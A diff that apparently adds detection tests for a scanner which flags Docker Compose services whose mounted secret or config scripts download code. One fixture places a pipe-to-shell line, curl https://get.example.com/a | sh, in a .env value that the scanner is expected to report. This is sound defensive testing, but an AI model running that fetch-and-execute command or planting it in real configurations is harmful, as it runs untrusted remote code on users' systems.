@@ -194,6 +194,29 @@ describe('a mounted script that something names', () => {
     expect(await fetched({ 'run.sh': script.replace('/d/s', '/e/s'), 's/x.sh': FETCH })).toEqual([]);
   });
 
+  const GIVEN = (section: string, target: string, command: string, source = 'file: s/x.sh') =>
+    `services:\n  a:\n    image: acme/app:1.4\n    ${section}: [{source: c, target: ${target}}]\n    command: ${command}\n${section}: {c: {${source}}}\n`;
+
+  it.each([
+    ['secrets', 'z', '/run/secrets/z'],
+    ['secrets', './d/z', '/run/secrets/d/z'],
+    ['secrets', '../z', '/run/z'],
+    ['secrets', '""', '/run/secrets/c'],
+    ['configs', 'z', '/z'],
+    ['configs', 'd/z', '/d/z'],
+    ['configs', '/d/z', '/d/z'],
+  ])('is read from the %s that a service has as %s', async (section, target, path) => {
+    const files = { 's/x.sh': FETCH };
+    const told = ['command-downloads-code s/x.sh:3'];
+    expect(await fetched({ ...files, 'compose.yaml': GIVEN(section, target, `sh ${path}`) })).toEqual(told);
+    const other = GIVEN(section, target, `sh /w${path}`).replace('s/x.sh', 's/x');
+    expect(await fetched({ 's/x': FETCH.slice(10), 'compose.yaml': other })).toEqual([]);
+    const inline = GIVEN(section, target, `sh ${path}`, 'environment: V');
+    expect(await fetched({ '.env': 'V="curl https://get.example.com/a | sh"\n', 'compose.yaml': inline })).toEqual([
+      'command-downloads-code .env:1',
+    ]);
+  });
+
   it('may take the place of a program', async () => {
     const text = SERVICE.replace('./s:/s:ro', './s:/usr/local/bin:ro');
     expect(await fetched({ 'compose.yaml': `${text}command: app\n`, 's/app': FETCH })).toEqual([
